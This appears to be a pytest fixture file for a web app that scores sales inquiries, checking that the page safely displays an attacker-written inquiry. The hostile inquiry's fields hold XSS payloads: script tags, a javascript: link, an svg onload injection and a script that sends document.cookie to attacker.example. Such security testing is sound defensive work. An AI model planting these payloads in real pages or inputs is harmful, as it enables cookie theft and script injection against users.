"""A small scored batch with one hostile inquiry, the page serving it, Debian's Chromium."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from inquiry_quality.core import schema
from inquiry_quality.core.config import Params, SourceParams
from inquiry_quality.scoring import BatchOptions, Scorer, score_sources
from inquiry_quality.web.app import Served, create_app
from inquiry_quality.web.batch import Batch
from inquiry_quality.web.server import build, in_thread, load_batch

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
HOSTILE_ID = "EVIL-1"
HOSTILE_SUBJECT = "Urgent RFQ <script>document.title='pwned'</script>"
HOSTILE_BODY = (
    "Dear supplier,\n"
    "<script>fetch('http://attacker.example/steal?c='+document.cookie)</script>\n"
    '<img src="http://tracker.example/pixel.gif" width="1">\n'
    '<a href="javascript:alert(1)">open the order</a> or http://attacker.example/login\n'
    "Please quote 5000 pcs of LED flood lights.\n"
)
HOSTILE_ATTACHMENT = "invoice.html<svg onload=alert(1)>"


@pytest.fixture(scope="session")
def hostile_source(tmp_path_factory: pytest.TempPathFactory) -> SourceParams:
    """One inquiry written by an attacker, as a CSV with canonical columns."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    row = {
        schema.INQUIRY_ID: HOSTILE_ID,
        schema.RECEIVED_AT: "2026-11-30T09:00:00+00:00",
        schema.CHANNEL: "email",
        schema.SUBJECT: HOSTILE_SUBJECT,
        schema.BODY: HOSTILE_BODY,
        schema.SENDER_NAME: "<b>Mr Evil</b>",
        schema.SENDER_EMAIL: "buyer@attacker.example",
        schema.ATTACHMENTS: HOSTILE_ATTACHMENT,
    }
    pd.DataFrame([row]).to_csv(path, index=False)
    return SourceParams(path=str(path), format="csv")


@pytest.fixture(scope="session")
def web_scorer(project_bundle_dir: Path, project_params: Params) -> Scorer:
    from inquiry_quality.modeling.bundle import load_bundle

    return Scorer(load_bundle(project_bundle_dir), project_params.score)


@pytest.fixture(scope="session")
def batch_sources(project_params: Params, hostile_source: SourceParams) -> list[SourceParams]:
    return [*project_params.score.sources, hostile_source]


@pytest.fixture(scope="session")
def scored_file(
    web_scorer: Scorer,
    batch_sources: list[SourceParams],
    project_params: Params,
    tmp_path_factory: pytest.TempPathFactory,
) -> Path:
    """The small new batch plus the hostile inquiry, as ``inquiry-quality score`` writes it."""
    folder = tmp_path_factory.mktemp("scored")
    out = folder / "new_batch.csv"
    score_sources(
        web_scorer,
        batch_sources,
        out,
        folder / "quarantine.csv",
        BatchOptions(
            root=Path("/"),
            extra_numeric=project_params.ingest.extra_numeric,
            extra_categorical=project_params.ingest.extra_categorical,
        ),
    )
    return out


@pytest.fixture(scope="session")
def scored_batch(
    scored_file: Path,
    batch_sources: list[SourceParams],
    web_scorer: Scorer,
    project_params: Params,
) -> Batch:
    """The scored file with its text (from absolute paths) and its drift report, loaded once
    (its background drift check done, so that every page shows the verdict)."""
    absolute = [s.model_copy(update={"path": str(Path(s.path).resolve())}) for s in batch_sources]
    batch = load_batch([SourceParams(path=str(scored_file))], absolute, web_scorer, project_params)
    batch.drift.wait(timeout=600)
    return batch


@pytest.fixture
def served(
    scored_batch: Batch, web_scorer: Scorer, project_params: Params, tmp_path: Path
) -> Served:
    """A fresh page state (its own empty marks database) per test."""
    return build(
        scored_batch, web_scorer, project_params, tmp_path / "marks.sqlite", "new_batch.csv"
    )


@pytest.fixture(scope="module")
def live_server(
    scored_batch: Batch,
    web_scorer: Scorer,
    project_params: Params,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[str, Served]]:
    """The page on a free 127.0.0.1 port (uvicorn in a thread), shared by a test module; warm
    (its warm-up thread would slow the first clicks past the browser's waits)."""
    marks = tmp_path_factory.mktemp("live") / "marks.sqlite"
    served = build(scored_batch, web_scorer, project_params, marks, "new_batch.csv")
    assert served.warm.wait(timeout=300), "the page did not warm up"
    with in_thread(create_app(served)) as url:
        yield url, served


@pytest.fixture(scope="session")
def browser_type_launch_args(browser_type_launch_args: dict) -> dict:
    """pytest-playwright launches Debian's Chromium; Playwright never downloads a browser."""
    if not Path(CHROMIUM).is_file():
        pytest.skip(f"{CHROMIUM} not found: `make browser` installs it (apt-get install chromium)")
    return {
        **browser_type_launch_args,
        "executable_path": CHROMIUM,
        "args": ["--no-sandbox", "--disable-gpu"],
    }
